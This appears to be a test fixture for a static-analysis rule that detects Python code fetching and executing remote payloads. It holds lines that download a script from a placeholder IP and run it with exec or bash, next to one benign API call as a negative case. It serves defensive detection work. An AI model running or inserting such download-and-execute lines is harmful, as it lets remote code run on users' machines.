"""Fixture for python.exec.remote_payload: `ruleid` lines must produce it, `ok` lines must not."""

raise SystemExit("codeward rule fixture: read by the analyzer, never run")

import subprocess
import urllib.request

import requests

# ruleid: python.exec.remote_payload
exec(requests.get("https://203.0.113.9/stage2.py").text)
# ruleid: python.exec.remote_payload
urllib.request.urlretrieve("https://203.0.113.9/run.sh", "/tmp/run.sh")
# ruleid: python.exec.remote_payload
subprocess.run(["bash", "/tmp/run.sh"])
# ok: python.exec.remote_payload
settings = requests.get("https://api.example.com/settings").json()
